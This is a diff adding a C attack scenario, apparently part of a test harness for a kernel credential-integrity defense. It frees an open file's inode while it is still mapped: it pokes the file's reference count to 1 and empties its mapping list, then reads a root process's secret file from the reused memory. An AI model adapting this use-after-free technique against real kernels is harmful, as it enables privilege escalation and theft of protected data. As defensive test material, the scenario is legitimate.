@@ -1,0 +1,103 @@
+// SPDX-License-Identifier: GPL-2.0-only
+#include "helper_program.h"
+
+ATTACK("cred_integrity", "file_freed_mapped",
+       "cred_integrity: an open file freed while it is in use",
+       "The program maps two parts of a file that has no name any more, closes it, has the list "
+       "of its mappings say that there are none, writes down its count of references, and unmaps "
+       "one part: file and inode are freed. Then it waits for root's program to make a file in "
+       "that place.",
+       "A file counts in sealed memory the mappings of it as well as the descriptors; with one "
+       "left it is not freed.",
+       "What the program has mapped is root's new file, and it reads it.");
+
+#define FILES 30
+#define PAGE 4096
+
+static volatile char *pages[FILES];
+
+static const char *numbered(char *text, const char *start, unsigned int index)
+{
+	char *end = text;
+
+	append_text(&end, start);
+	*end++ = (char)('a' + index / 10);
+	*end++ = (char)('0' + index % 10);
+	*end = '\0';
+	return text;
+}
+
+/* The first mapping alone is left out: the second finds its neighbours as it must, and goes. */
+static void make_empty(uint64_t list, uint64_t last)
+{
+	poke(list, last);
+	poke(last + 8, list);
+}
+
+/* Nothing of it is touched before root has used its place. */
+static void make_dangling(unsigned int index)
+{
+	const long file = call3(__NR_open, (long)"/tmp/own", O_CREAT | O_RDWR, 0600);
+	uint64_t references, mappings;
+	long other;
+
+	call1(__NR_unlink, (long)"/tmp/own");
+	call2(__NR_ftruncate, file, 3 * PAGE);
+	pages[index] = (volatile char *)call6(__NR_mmap, 0, PAGE, PROT_READ, MAP_SHARED, file, 0);
+	other = call6(__NR_mmap, 0, PAGE, PROT_READ, MAP_SHARED, file, 2 * PAGE);
+	references = file_state(own_task(), (int)file) + member("file_state.references");
+	mappings = inode_of(file) + member("inode.cache") + member("page_cache.areas");
+	call1(__NR_close, file);
+	poke32(references, 1);
+	make_empty(mappings, peek(mappings + 8));
+	call2(__NR_munmap, other, PAGE);
+}
+
+/* By a call, which a page that is not there does not end. */
+static bool reads_secret(unsigned int index)
+{
+	char bytes[sizeof(SECRET) - 1] = { 0 };
+	int ends[2];
+
+	call2(__NR_pipe2, (long)ends, O_NONBLOCK);
+	call3(__NR_write, ends[1], (long)pages[index], sizeof(bytes));
+	call3(__NR_read, ends[0], (long)bytes, sizeof(bytes));
+	call1(__NR_close, ends[0]);
+	call1(__NR_close, ends[1]);
+	return bytes_equal(bytes, SECRET, sizeof(bytes));
+}
+
+/* On the victim's processor: what is freed here is used again there. */
+static bool fire(void)
+{
+	(void)own_cpu(0);
+	for (unsigned int i = 0; i < FILES; i++)
+		make_dangling(i);
+	sleep_milliseconds(100);
+	for (unsigned int i = 0; i < FILES; i++) {
+		if (reads_secret(i))
+			return true;
+	}
+	return false;
+}
+
+static void write_secret(const char *name)
+{
+	const long file = call3(__NR_open, (long)name, O_CREAT | O_RDWR, 0600);
+
+	call3(__NR_write, file, (long)SECRET, sizeof(SECRET) - 1);
+	call1(__NR_close, file);
+}
+
+static void victim(void)
+{
+	unsigned long mask = 1;
+	char name[32];
+
+	call3(__NR_sched_setaffinity, 0, sizeof(mask), (long)&mask);
+	for (unsigned int round = 0;; round = (round + 1) % 2) {
+		sleep_milliseconds(20);
+		for (unsigned int i = 0; i < FILES; i++)
+			write_secret(numbered(name, round ? "/secret" : "/hidden", i));
+	}
+}
